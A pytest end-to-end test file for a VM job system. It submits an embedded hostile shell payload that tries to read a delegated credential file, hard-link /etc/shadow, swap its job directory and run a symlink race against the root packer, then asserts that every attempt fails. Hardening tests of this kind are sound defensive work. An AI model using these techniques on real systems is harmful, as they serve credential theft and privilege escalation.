"""A hostile payload inside a real VM (issue 13, hole 2): it reads the context (which holds
the job's delegated credential), hard-links root's files into its results, swaps its job
directory for a link to the context's folder, and leaves a process that swaps its result
files for links to root's 0600 files while the agent (root) packs them. The results carry
none of it. One real libvirt/QEMU VM of the shared ``base`` appliance image
(tests/e2e/test_vm_jobs.py's grid).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.e2e.test_vm_jobs import Grid, grid, results, vm_host, vm_worker  # noqa: F401
from tests.support.processes import run_cli

pytestmark = [pytest.mark.slow, pytest.mark.timeout(3000)]

HOSTILE = """\
#!/bin/sh
echo "user: $(id -un)"
cat /run/xwvm/context.json > ctx.txt 2>/dev/null && echo "context: read" \\
    || echo "context: unreadable"
ln /etc/shadow shadow-hard.txt 2>/dev/null && echo "hardlink: made" || echo "hardlink: refused"
ln -s /run/xwvm/context.json ctx-link.txt
python3 - <<'PY'
import os, time
targets = ["/run/xwvm/context.json", "/etc/shadow"]
names = [f"r{i}.txt" for i in range(100)]
for name in names:
    open(name, "w").write("mine\\n")
if os.fork():
    os._exit(0)
os.setsid()
end = time.monotonic() + 120
while time.monotonic() < end:
    for i, name in enumerate(names):
        try:
            os.symlink(targets[i % 2], name + ".l")
            os.rename(name + ".l", name)
            open(name + ".f", "w").write("mine\\n")
            os.rename(name + ".f", name)
        except OSError:
            pass
PY
# As the payload ends, swap the job's own directory for one whose run/ is a link to the
# context's folder (possible when the jobs lived in the payload user's home).
J=$(dirname "$PWD"); P=$(dirname "$J")
if mv "$P" "$P.old" 2>/dev/null && mkdir -p "$J" && ln -s /run/xwvm "$J/run"; then
    echo "planted" > "$J/stdout.txt"; : > "$J/stderr.txt"; echo "jobs dir: swapped"
else
    echo "jobs dir: kept"
fi
echo "payload done"
"""


def test_a_hostile_payload_gets_neither_the_credential_nor_roots_files(
        grid: Grid, tmp_path: Path) -> None:  # noqa: F811
    worker = vm_worker(grid, "vmhostile")
    script = tmp_path / "hostile.sh"
    script.write_text(HOSTILE)
    try:
        out = run_cli(["submit", "--template", "base", "--command", "sh hostile.sh",
                       "--input", str(script), "--wall-clock", "600", "--wait",
                       "--timeout", "900", "--format", "json"], grid.home, timeout=960,
                      check=False)
    finally:
        worker.stop()
    assert out.returncode == 0, out.stdout + out.stderr + worker.log
    [job] = json.loads(out.stdout)
    assert job["status"] == "COMPLETED", job
    files = results(grid.admin, job["uid"], tmp_path)
    stdout = files["stdout.txt"]
    assert "user: xwvm" in stdout and "payload done" in stdout, stdout
    assert "context: unreadable" in stdout, stdout
    assert "jobs dir: kept" in stdout and "hardlink: refused" in stdout, stdout
    everything = "".join(files.values())
    # The context document (its credential) and root's shadow lines are nowhere.
    assert '"credential"' not in everything and '"job_uid"' not in everything
    assert "root:*" not in everything and "root:!" not in everything
    assert "ctx-link.txt" not in files and "shadow-hard.txt" not in files
    assert "context.json" not in files, "root packed the context through a link"
    swapped = [name for name in files if name.startswith("r")]
    assert all(files[name] == "mine\n" for name in swapped), swapped
